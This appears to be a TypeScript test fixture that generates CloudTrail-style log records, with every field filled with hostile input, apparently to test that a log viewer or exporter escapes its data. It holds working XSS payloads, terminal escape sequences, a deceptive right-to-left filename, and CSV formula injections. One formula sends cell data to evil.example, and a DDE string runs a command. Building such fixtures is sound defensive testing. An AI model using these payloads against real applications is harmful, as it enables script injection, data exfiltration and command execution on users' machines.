// Log files whose every field is out to do harm.

import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";

/** What a script that got through would leave behind. */
export const MARK = "owned";

/** Values that do harm where they are not treated as text. */
export const VALUES = {
  html: `<img src=x onerror="window.${MARK}=1"><b>bold</b>`,
  textarea: `</textarea><script>window.${MARK}=2;alert(2)</script>`,
  attribute: `" autofocus onfocus="window.${MARK}=3" x='`,
  svg: `</title></style><svg/onload=alert(4)>`,
  address: `javascript:alert(5)`,
  ansi: "\u001b[31mred\u001b[0m \u001b]0;owned\u0007",
  rtl: "invoice\u202Egpj.exe",
  formula: `=HYPERLINK("http://evil.example/?"&A1,"press")`,
  command: `=cmd|' /C calc'!A0`,
  plus: "+1+cmd",
  minus: "-2+3",
  at: "@SUM(1,2)",
  tab: "\t=1+1",
  lines: "first\r\n=second",
  nul: "a\u0000b",
  long: `longest-${"x".repeat(100_000)}`,
};

export type Kind = keyof typeof VALUES;
export const KINDS = Object.keys(VALUES) as Kind[];

/** Where values start that a spreadsheet would take for formulas. */
export const FORMULA = /^[=+\-@\t\r\n]/;

/** A record that carries the value wherever a record can carry text; its id tells which. */
function record(kind: Kind, place: number) {
  const value = VALUES[kind];
  return {
    eventVersion: "1.11",
    userIdentity: {
      type: "AssumedRole",
      principalId: `AROAEXAMPLE:${value}`,
      arn: `arn:aws:sts::111122223333:assumed-role/${value}/${value}`,
      accountId: "111122223333",
      accessKeyId: `ASIAEXAMPLE${place}`,
      sessionContext: {
        sessionIssuer: { type: "Role", userName: value, arn: `arn:aws:iam::111122223333:role/${value}`, accountId: "111122223333" },
        sourceIdentity: value,
      },
    },
    eventTime: `2026-11-20T10:${String(place).padStart(2, "0")}:00Z`,
    eventSource: `${value}.amazonaws.com`,
    eventName: value,
    awsRegion: value,
    sourceIPAddress: value,
    userAgent: value,
    errorCode: value,
    errorMessage: `${value}: User: ${value} is not authorized to perform: ${value} on resource: ${value}`,
    requestParameters: { [kind === "long" ? "long" : value]: value, bucketName: value, nested: [{ deep: value }] },
    responseElements: { text: value },
    resources: [{ ARN: value, accountId: "111122223333", type: value }],
    requestID: value,
    eventID: `hostile-${kind}`,
    readOnly: false,
    eventType: "AwsApiCall",
    managementEvent: true,
    recipientAccountId: "111122223333",
    eventCategory: "Management",
  };
}

/** Writes a log file with a record of each kind, and a file that is none, whose name does harm too. */
export function write(folder: string) {
  mkdirSync(folder, { recursive: true });
  const records = KINDS.map(record);
  writeFileSync(join(folder, "hostile.json"), JSON.stringify({ Records: records }));
  writeFileSync(join(folder, "<img src=x onerror=alert(6)>\u202E.json"), "this is no JSON");
}
